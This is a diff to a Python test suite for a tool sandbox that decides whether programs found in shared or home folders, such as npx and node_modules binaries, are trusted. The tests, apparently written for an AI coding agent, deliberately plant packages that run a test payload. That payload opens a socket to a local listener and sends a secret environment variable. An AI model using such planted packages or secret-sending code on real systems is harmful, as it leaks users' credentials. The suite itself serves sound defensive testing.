@@ -24,8 +24,9 @@ from ybs.config.host import REPOSITORY_MARKS, Host, worked_in
 from ybs.core.errors import ToolError
 from ybs.core.events import Noticed, ToolFinished
 from ybs.core.ports import Answer, Question
+from ybs.security import own_programs
 from ybs.security.launcher import away_from, persons_program
-from ybs.security.own_programs import APART, IN_PROJECT, OwnPrograms, Start, entering, start_folder
+from ybs.security.own_programs import APART, IN_PROJECT, OwnPrograms, Start, entering
 from ybs.security.paths.git_names import REPOSITORIES
 from ybs.security.paths.roots import Roots
 from ybs.security.sandbox import choice, resident
@@ -46,7 +47,9 @@ except OSError:
 socket.create_connection(("127.0.0.1", {port}), 5).sendall(os.environ.get("KEY", "no key").encode())
 raise SystemExit(3)
 """
-#: Takes what is installed in the folder that it is started in, as the real one does.
+#: Takes what is installed in the folder that it is started in or in the next one above, as the real one does.
+UPWARD = '#!/bin/sh\nuntil [ -e "node_modules/.bin/$1" ] || [ "$PWD" = / ]; do cd ..; done\nexec "node_modules/.bin/$1"\n'
+#: The same without looking upward.
 NPX = '#!/bin/sh\n[ -x "node_modules/.bin/$1" ] && exec "node_modules/.bin/$1"\nshift\nexec "$@"\n'
 
 
@@ -244,7 +247,7 @@ async def test_a_server_is_told_where_the_project_is(attack: Attack, kind: str):
     said = await served(attack)
     folders = said.split()
     assert folders[:3] == [str(attack.project)] * 3
-    assert Path(folders[3]).parent == start_folder(this_host(), "")
+    assert folders[3] == "/"
     assert "a note of the project" in said
 
 
@@ -318,6 +321,7 @@ async def test_hooks_in_a_copy_of_the_project_are_kept_from_it_and_from_the_proj
 ):
     monkeypatch.setenv("PATH", f"{attack.project}/bin:{os.environ['PATH']}")
     copy = tmp_path / "copy"
+    monkeypatch.setattr(own_programs, "_is_open", lambda _: False)  # but /tmp is
     put(copy, "json.py", (attack.project / "json.py").read_text())
     for action in ("show", "give"):
         trust(this_host(), action, attack.project)
@@ -348,20 +352,26 @@ def test_trust_in_the_project_is_not_about_an_added_folder(project: Path, tmp_pa
     host = replace(this_host(), environ={"PATH": path, "NODE_OPTIONS": f"-r {tmp_path}/all/x"})
     roots = Roots(host, project)
     for cwd, trusted in (("", True), (IN_PROJECT, False)):
-        start = OwnPrograms(roots, lambda is_so=trusted: is_so).start("x", cwd)
+        start = OwnPrograms(roots, lambda is_so=trusted: is_so).start(cwd)
         assert (start.folder, start.environ) == (roots.folder, host.environ)
     roots.add(tmp_path / "all/other")
-    assert OwnPrograms(roots, lambda: True).start("x").environ["PATH"] == (
+    assert OwnPrograms(roots, lambda: True).start().environ["PATH"] == (
         f"{project}/bin:{tmp_path}/all/tools:/usr/bin"
     )
     roots.add(tmp_path)  # it holds the project
-    start = OwnPrograms(roots, lambda: True).start("x")
+    start = OwnPrograms(roots, lambda: True).start(IN_PROJECT)
     assert start.environ == {"PATH": f"{project}/bin:/usr/bin"}
+    start = OwnPrograms(roots, lambda: True).start()
+    assert (start.folder, start.environ) == (Path("/"), {"PATH": "/usr/bin"})
+    assert f"tools, may write in {tmp_path}" in start.why
+    assert OwnPrograms(roots, lambda: True, trusts_added=lambda _: True).start().why == ""
 
 
-def test_the_place_of_a_file_is_trusted_by_the_innermost_folder_that_it_lies_in(
-    project: Path, tmp_path: Path
+def test_the_place_of_a_file_is_trusted_where_each_folder_is_that_it_lies_in(
+    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ):
+    """Formatters look for code from the file upward."""
+    monkeypatch.setattr(own_programs, "_is_open", lambda _: False)
     roots, copy = Roots(this_host(), project), tmp_path / "copy"
     for name in ("other", "other/in", "."):
         roots.add(tmp_path / name)
@@ -374,13 +384,18 @@ def test_the_place_of_a_file_is_trusted_by_the_innermost_folder_that_it_lies_in(
         return [name for name, path in known.items() if programs.trusts(path)]
 
     assert trusted(roots) == []
-    assert trusted(roots, project=True) == ["project"]
-    assert trusted(roots, "other") == ["other"]
-    assert trusted(roots, "other/in", project=True) == ["project", "in"]
-    assert trusted(roots, ".", project.name) == ["around", "copy"]
+    assert trusted(roots, project=True) == []
+    assert trusted(roots, ".", project=True) == ["project", "around", "copy"]
+    assert trusted(roots, ".", "other") == ["other", "around", "copy"]
+    assert trusted(roots, ".", "other/in", project=True) == ["project", "around", "copy"]
+    assert trusted(roots, ".", "other", "other/in") == ["other", "in", "around", "copy"]
     of_copy = Roots(this_host(), copy, original=roots)
     assert trusted(of_copy, original=project) == []
-    assert trusted(of_copy, "other", project=True, original=project) == ["project", "copy"]
+    assert trusted(of_copy, "other", project=True, original=project) == []
+    every = trusted(of_copy, ".", project=True, original=project)
+    assert every == ["project", "around", "copy"]
+    monkeypatch.setattr(own_programs, "_is_open", lambda folder: folder == tmp_path)
+    assert trusted(of_copy, ".", project=True, original=project) == ["project", "around"]
 
 
 @pytest.mark.integration
@@ -594,13 +609,13 @@ def test_all_work_trees_of_a_repository_are_one_project(tmp_path: Path):
     environ = {"PYTHONPATH": f"{tmp_path}/around/main", "HOME": str(tmp_path / "home")}
     for is_trusted in (False, True):
         roots = Roots(Host.of(environ), one)
-        started = OwnPrograms(roots, lambda: is_trusted).start("x")  # noqa: B023 - it is asked now
+        started = OwnPrograms(roots, lambda: is_trusted).start()  # noqa: B023 - it is asked now
         assert ("PYTHONPATH" in started.environ) is is_trusted
     # One that was added is not what was trusted.
     roots = Roots(Host.of({**environ, "PATH": f"{main}:{two}/bin"}), one)
     roots.add(two)
     programs = OwnPrograms(roots, lambda: True)
-    assert programs.start("x").environ["PATH"] == str(main)
+    assert programs.start().environ["PATH"] == str(main)
     assert not programs.trusts(two / "a")
     assert not programs.trusts(main / "a")
     (two / "sub").mkdir()
@@ -608,7 +623,7 @@ def test_all_work_trees_of_a_repository_are_one_project(tmp_path: Path):
     for folder, added, left in ((one, two / "sub", str(one)), (one / "deep", one, path)):
         roots = Roots(Host.of({"PATH": path, "HOME": str(tmp_path / "home")}), folder)
         roots.add(added)
-        assert OwnPrograms(roots, lambda: True).start("x").environ["PATH"] == left, added
+        assert OwnPrograms(roots, lambda: True).start().environ["PATH"] == left, added
     (two / ".git").write_text("gitdir: /nowhere\n")
     assert host.whole_projects(one) == (one, tmp_path / "around")
     for said in (f"gitdir: {main}/.git/worktrees/one", "gitdir: \0", "gitdir: a/worktrees/b", ""):
@@ -626,20 +641,72 @@ def test_the_home_folder_is_no_work_tree_of_a_project(tmp_path: Path):
     assert Host.of({"HOME": str(home)}).whole_projects(tmp_path / "w") == (tmp_path / "w",)
 
 
-def test_programs_start_in_no_folder_below_a_project(project: Path):
+def test_programs_start_nowhere_where_tools_write_in_all_of_the_disk():
     """Programs look upward from where they start: `npx` for `node_modules`."""
-    host = Host.of({"HOME": str(project.parent), "XDG_STATE_HOME": str(project / "state")})
-    own_programs = OwnPrograms(Roots(host, project), lambda: False)
-    own_programs.start("x")  # of a host that works elsewhere
-    host.work_in(project)
-    with pytest.raises(ToolError, match=r"lies in a project.*XDG_STATE_HOME"):
-        own_programs.start("x")
-    assert own_programs.start("x", IN_PROJECT).folder == project
+    programs = OwnPrograms(Roots(this_host(), Path("/")), lambda: False)
+    with pytest.raises(ToolError, match=r"tools may write in /.*\"cwd\": \"project\""):
+        programs.start()
+    assert programs.start(IN_PROJECT).folder == Path("/")
+
+
+@pytest.mark.parametrize("opened", [False, True])
+async def test_in_a_copy_below_a_folder_of_everybodys_nothing_of_the_persons_starts(
+    attack: Attack, monkeypatch: pytest.MonkeyPatch, opened: bool
+):
+    """As copies of incognito sessions below /dev/shm: another user puts a package there, and `npx` looks upward."""
+    copies = attack.home / "copies"
+    copy = copies / "1/copy"
+    put(copies, "node_modules/.bin/fmt", (attack.project / "check.sh").read_text(), 0o755)
+    put(attack.home, "bin/npx", UPWARD, 0o755)
+    monkeypatch.setattr(own_programs, "_is_open", lambda folder: opened and folder == copies)
+    trust(this_host(), "give", attack.project)
+    copy.mkdir(parents=True)
+    async with environment(attack) as found:
+        other = ToolEnvironment.of(copy, found.loaded, Permissions(), original=found)
+        for more in ({}, {"cwd": "project"}):
+            said = await hooked(other, "npx fmt", **more)
+            assert bool(attack.stolen()) is not opened, more
+            assert ("others, or tools, may write in ~/copies" in said) is opened
+        programs = other.workspace.own_programs
+        assert programs.trusts(copy / "a.py") is not opened
+        assert programs.trusts(attack.project / "a.py")
+        assert programs.start(IN_PROJECT, in_sandbox=True).folder == copy
+        await other.aclose()
+
+
+def test_a_folder_is_open_where_others_than_the_person_and_root_may_write(tmp_path: Path):
+    (tmp_path / "sticky").mkdir()
+    (tmp_path / "sticky").chmod(0o1777)
+    (tmp_path / "group").mkdir()
+    (tmp_path / "group").chmod(0o775)
+    os.chown(tmp_path / "group", -1, 12345) if os.getuid() == 0 else None
+    assert own_programs._is_open(tmp_path / "sticky")
+    assert own_programs._is_open(tmp_path / "group") or os.getuid()
+    assert own_programs._is_open(tmp_path / "gone")
+    assert not own_programs._is_open(tmp_path)
+    assert not own_programs._is_open(Path("/"))
+
+
+@pytest.mark.integration
+@pytest.mark.parametrize("added", [False, True])
+async def test_where_tools_write_in_the_home_folder_own_programs_take_nothing_from_there(
+    attack: Attack, added: bool
+):
+    """The model writes `~/package.json`, and any later session would find it."""
+    put(attack.home, "bin/npx", UPWARD, 0o755)
+    put(attack.home, "node_modules/.bin/fmt", (attack.project / "check.sh").read_text(), 0o755)
+    async with environment(attack) as found:
+        if added:
+            found.roots.add(attack.home)
+        else:
+            found = ToolEnvironment.of(attack.home, found.loaded, Permissions())
+        await hooked(found, "npx fmt")
+        assert attack.stolen() == []
 
 
 def test_the_home_folder_as_the_project_keeps_the_persons_own_programs(home: Path):
     roots = Roots(this_host(), home)
-    start = OwnPrograms(roots, lambda: False).start("x")
+    start = OwnPrograms(roots, lambda: False).start()
     assert (start.is_apart, start.environ["HOME"]) == (True, str(home))
 
 
@@ -648,10 +715,10 @@ def test_the_reason_why_a_program_started_apart_is_what_its_entry_says(project: 
         OwnPrograms(Roots(this_host(), project), lambda answer=answer: answer)
         for answer in (False, True)
     )
-    assert "trust in the project" in untrusted.start("x").why
+    assert "trust in the project" in untrusted.start().why
     for each in (untrusted, trusted):
-        assert each.start("x", IN_PROJECT).why == ""
-        assert each.start("x", APART).why.endswith('as "cwd": "apart" in its entry says')
+        assert each.start(IN_PROJECT).why == ""
+        assert each.start(APART).why.endswith('as "cwd": "apart" in its entry says')
 
 
 def test_no_variable_says_which_folder_was_left(project: Path, tmp_path: Path):
@@ -662,14 +729,7 @@ def test_no_variable_says_which_folder_was_left(project: Path, tmp_path: Path):
     assert str(project) not in said
 
 
-def test_the_folder_is_private_and_nobody_elses(project: Path, home: Path):
-    own_programs = OwnPrograms(Roots(this_host(), project), lambda: False)
-    folder = own_programs.start("x").folder
-    assert folder == start_folder(this_host(), "x")
-    assert (folder.stat().st_mode & 0o777, list(folder.iterdir())) == (0o700, [])
-    folder.rmdir()
-    folder.symlink_to(project)
-    with pytest.raises(ToolError):
-        own_programs.start("x")
-    there = Start(folder=project, environ=this_host().environ, is_apart=False)
-    assert own_programs.start("x", IN_PROJECT) == there
+def test_the_folder_is_roots_and_nothing_lies_above(project: Path):
+    programs = OwnPrograms(Roots(this_host(), project), lambda: False)
+    assert programs.start().folder == Path("/")
+    assert programs.start(IN_PROJECT) == Start(folder=project, environ=this_host().environ)
